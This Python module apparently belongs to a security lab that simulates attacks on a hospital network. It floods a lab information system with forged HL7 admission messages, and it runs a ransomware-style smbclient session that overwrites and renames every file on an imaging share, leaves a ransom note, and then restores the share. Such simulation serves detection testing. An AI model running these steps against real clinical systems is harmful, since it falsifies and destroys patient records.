"""Attacks on records: false HL7 messages, and an encrypted file share."""

from __future__ import annotations

from pathlib import Path
from random import Random

from lab.activities.clinical import send_hl7
from lab.activity import Lab
from lab.attack import Paced
from lab.messages import adt
from lab.services import HL7_LIS_PORT, SHARED_FILE_BYTES, SHARED_FILES

BATCH = 40


def flood_hl7(lab: Lab, rng: Random, size: float) -> str:
    """Admissions by the hundred from a sender that the LIS has never seen, and acknowledges all the same."""
    batches = max(3, int(24 * size))
    acknowledged = 0
    for _ in Paced(batches, 36 * size):
        messages = [adt(rng, rng.choice(("A01", "A08", "A40")), sender="EXT") for _ in range(BATCH)]
        acknowledged += send_hl7(lab.network, "rogue", "lis", HL7_LIS_PORT, messages)
    return f"{batches * BATCH} ADT messages over {batches} connections to port {HL7_LIS_PORT}; {acknowledged} acknowledged"


def encrypt_share(lab: Lab, rng: Random, size: float) -> str:
    """Read, overwrite with noise, and rename every file of the share, in one session."""
    count = max(20, int(SHARED_FILES * size))
    noise = lab.network.work / "noise"
    noise.mkdir()
    script = ["prompt"]
    for number in range(1, count + 1):
        name = f"case{number:03d}.dcm"
        (noise / name).write_bytes(rng.randbytes(SHARED_FILE_BYTES + 64))
        script += [f"get {name} /dev/null", f"put {noise / name} {name}", f"rename {name} {name}.locked", "!sleep 0.15"]
    script += [f"put {lab.network.work / 'ws2-report.txt'} README_TO_RESTORE.txt", "quit"]
    share = f"//{lab.network.fqdn('fileserver')}/images"
    done = lab.network.run("ws2", ["smbclient", share, "-U", "ws2%none"], 100, "\n".join(script) + "\n")
    locked = restore(lab.network.work / "shares" / "images", rng)
    return (
        f"one smbclient session that read, overwrote and renamed {count} files to *.locked; {locked} locked"
        f"{'' if done.returncode == 0 else ', ended by its time limit'}, and left a note"
    )


def restore(folder: Path, rng: Random) -> int:
    """Roll the share back on the server's own disk, so that benign readers go on as before; counts what was locked."""
    locked = list(folder.glob("*.locked"))
    for path in locked:
        path.with_suffix("").write_bytes(rng.randbytes(SHARED_FILE_BYTES))
        path.unlink()
    (folder / "README_TO_RESTORE.txt").unlink(missing_ok=True)
    return len(locked)
